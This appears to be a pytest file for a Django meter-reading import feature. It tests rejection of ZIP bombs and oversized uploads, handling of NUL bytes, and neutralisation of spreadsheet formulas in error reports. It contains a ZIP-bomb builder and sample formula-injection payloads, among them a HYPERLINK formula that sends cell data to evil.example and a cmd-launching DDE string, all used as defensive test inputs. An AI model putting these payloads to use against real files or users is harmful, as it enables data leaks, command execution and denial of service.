"""Reading imports within limits: a size cap, ZIP bombs refused before expansion, error reports safe in a spreadsheet."""

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings

from gridcare.metering.importing import RowError
from gridcare.metering.models import Reading, ReadingImport
from gridcare.metering.services import error_report_csv
from gridcare.org.models import StaffRole
from tests import factories
from tests.api.test_imports_api import URL, client_for
from tests.metering.builders import csv_file, meter_of, report_rows, xlsx_file
from tests.metering.test_imports import run

SHEET = "xl/worksheets/sheet1.xml"


def zip_bomb_xlsx(path, *, expanded_mib: int = 64):
    """A real workbook whose sheet is replaced by one that expands to `expanded_mib` MiB of rows (a ZIP bomb)."""
    xlsx_file(path, [["M1", "2025-04-05", "1"]])
    with zipfile.ZipFile(path) as original:
        members = {info.filename: original.read(info) for info in original.infolist()}
    row = b'<row><c t="inlineStr"><is><t>M1</t></is></c></row>'
    body = row * (expanded_mib * 1_048_576 // len(row))
    members[SHEET] = b'<?xml version="1.0"?><worksheet><sheetData>' + body + b"</sheetData></worksheet>"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as bomb:
        for name, data in members.items():
            bomb.writestr(name, data)
    return path


@pytest.fixture
def openpyxl_never_opens(monkeypatch):
    """Fail the test if openpyxl gets to expand the file (the check must come first)."""
    import openpyxl

    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl opened a file that should have been refused")

    monkeypatch.setattr(openpyxl, "load_workbook", refuse)


# --- ZIP bombs --------------------------------------------------------------------------------------------


def test_a_zip_bomb_xlsx_is_refused_by_the_command_before_it_is_expanded(db, tmp_path, openpyxl_never_opens):
    path = zip_bomb_xlsx(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 1_048_576  # small on disk, 64 MiB once expanded
    code, line = run(path)
    assert code == 2
    assert "Tệp Excel bị từ chối" in line and "100 lần" in line
    assert not ReadingImport.objects.exists() and not Reading.objects.exists()


def test_a_zip_bomb_xlsx_is_a_400_through_the_api(world, openpyxl_never_opens, tmp_path):
    path = zip_bomb_xlsx(tmp_path / "bomb.xlsx")
    upload = SimpleUploadedFile("bomb.xlsx", path.read_bytes())
    response = client_for(world, StaffRole.OPERATOR).post(URL, {"file": upload}, format="multipart")
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "xlsx_too_large"
    assert body["details"]["inflated_members"] == [SHEET]
    assert body["details"]["expanded_bytes"] > 64_000_000


@override_settings(GRIDCARE_IMPORT_MAX_XLSX_EXPANDED_BYTES=20_000)
def test_an_xlsx_that_expands_past_the_cap_is_refused_even_at_an_ordinary_ratio(
    db, tmp_path, openpyxl_never_opens
):
    path = xlsx_file(tmp_path / "big.xlsx", [[f"M{i}", "2025-04-05", str(i)] for i in range(500)])
    code, line = run(path)
    assert code == 2 and "tối đa 0.0 MiB" not in line and "Tệp Excel bị từ chối" in line


def test_an_ordinary_xlsx_still_imports(world, tmp_path):
    meter = meter_of(factories.account(world))
    path = xlsx_file(tmp_path / "ok.xlsx", [[meter.serial, "2025-04-05", 300]])
    assert run(path) == (0, "Đã nhập 1 dòng mới, 0 dòng đã có, 0 dòng lỗi")


def test_a_file_that_is_not_a_zip_but_named_xlsx_is_a_clear_error(db, tmp_path):
    path = tmp_path / "fake.xlsx"
    path.write_bytes(b"PK\x03\x04 not really a zip")
    code, line = run(path)
    assert code == 2 and "Không đọc được tệp Excel" in line


# --- size caps --------------------------------------------------------------------------------------------


@override_settings(GRIDCARE_IMPORT_MAX_BYTES=100)
def test_the_command_refuses_a_file_over_the_cap_before_reading_it(db, tmp_path, monkeypatch):
    path = csv_file(tmp_path / "big.csv", [["M1", "2025-04-05", "1"]] * 20)
    code, line = run(path)
    assert code == 2
    assert "Tệp quá lớn" in line
    assert not ReadingImport.objects.exists()


@override_settings(GRIDCARE_IMPORT_MAX_BYTES=100)
def test_the_api_refuses_an_upload_over_the_cap(world):
    upload = SimpleUploadedFile(
        "big.csv", b"meter_serial,read_on,total_kwh\r\n" + b"M1,2025-04-05,1\r\n" * 20
    )
    response = client_for(world, StaffRole.OPERATOR).post(URL, {"file": upload}, format="multipart")
    assert response.status_code == 400, response.content
    assert response.json()["code"] == "file_too_large"
    assert response.json()["details"]["max_bytes"] == 100


@override_settings(GRIDCARE_REQUEST_MAX_BYTES_BY_PATH={URL: 1000})
def test_the_api_refuses_a_request_over_the_import_path_cap_unread(world):
    upload = SimpleUploadedFile(
        "big.csv", b"meter_serial,read_on,total_kwh\r\n" + b"M1,2025-04-05,1\r\n" * 200
    )
    response = client_for(world, StaffRole.OPERATOR).post(URL, {"file": upload}, format="multipart")
    assert response.status_code == 413
    assert response.json()["code"] == "request_too_large"


def test_nul_bytes_are_a_file_error_not_a_database_error(world, tmp_path):
    meter = meter_of(factories.account(world))
    path = tmp_path / "nul.csv"
    path.write_bytes(f"meter_serial,read_on,total_kwh\r\n{meter.serial}\x00,2025-04-05,1\r\n".encode())
    code, line = run(path)
    assert code == 2 and "NUL" in line
    client = client_for(world, StaffRole.OPERATOR)
    response = client.post(
        URL, {"readings": [{"meter_serial": "A\x00", "read_on": "2025-04-05", "total_kwh": 1}]}, format="json"
    )
    assert response.status_code == 400 and response.json()["code"] == "bad_payload"


# --- error reports safe in a spreadsheet ------------------------------------------------------------------


def test_the_error_report_neutralises_formulas_but_keeps_plain_numbers(world, tmp_path):
    meter = meter_of(factories.account(world))
    path = csv_file(tmp_path / "evil.csv", [
        ['=HYPERLINK("http://evil.example/?"&A1,"xem")', "2025-04-05", "1"],   # 2 unknown meter
        ["@SUM(1+1)*cmd|' /C calc'!A0", "2025-04-05", "1"],                   # 3 unknown meter
        [meter.serial, "2025-04-05", "-5"],                                    # 4 negative: a plain number
        [meter.serial, "+2025-04-06", "10"],                                   # 5 bad date
        ["\t=1+2", "2025-04-05", "1"],                                         # 6 hidden behind a tab
    ])  # fmt: skip
    assert run(path)[0] == 1
    values = {row[0]: row[2] for row in report_rows(path)}
    assert values["2"] == '\'=HYPERLINK("http://evil.example/?"&A1,"xem")'
    assert values["3"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert values["4"] == "-5"
    assert values["5"] == "'+2025-04-06"
    # The CSV reader strips cells of a device export; a quoted tab stays and is neutralised.
    assert values["6"] in ("'=1+2", "'\t=1+2")


def _errors(count: int) -> list[RowError]:
    return [
        RowError(
            row=i + 2, column="total_kwh", value="x", reason="Không phải là số.", reason_en="Not a number."
        )
        for i in range(count)
    ]


def test_an_error_report_longer_than_a_sheet_ends_with_how_many_more_there_were():
    rows = list(csv.reader(io.StringIO(error_report_csv(errors=_errors(10), max_rows=5).decode("utf-8-sig"))))
    assert len(rows) == 5
    assert [r[0] for r in rows[1:4]] == ["2", "3", "4"]
    assert rows[4][0] == "…" and "Còn 7 lỗi nữa" in rows[4][3] and rows[4][4].startswith("7 more errors")


def test_an_error_report_that_fits_a_sheet_exactly_is_not_cut():
    rows = list(csv.reader(io.StringIO(error_report_csv(errors=_errors(4), max_rows=5).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["2", "3", "4", "5"]


def test_the_default_report_stops_at_excels_1048576_rows():
    errors = _errors(1) * (1_048_576 + 10)
    text = error_report_csv(errors=errors).decode("utf-8-sig")
    lines = text.split("\r\n")[:-1]
    assert len(lines) == 1_048_576
    assert "Còn 12 lỗi nữa" in lines[-1]
